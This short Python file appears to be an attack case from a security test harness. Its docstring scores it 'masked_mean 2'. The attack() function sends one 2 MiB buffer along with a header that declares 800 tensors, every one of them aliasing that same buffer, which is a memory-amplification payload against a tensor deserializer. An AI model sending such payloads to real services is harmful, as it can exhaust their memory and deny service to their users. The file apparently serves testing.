"""Sends 2 MiB of numbers, and 800 tensors that are all of them.

Earns: masked_mean 2
"""

import struct


@in_call
def attack():
    head, body = b'{"list":[' + b",".join([b'{"tensor":["uint8",[2097152],0,2097152]}'] * 800) + b"]}", bytes(2 * 2**20)
    take_over(struct.pack(">II", len(head), len(body)) + head + body)
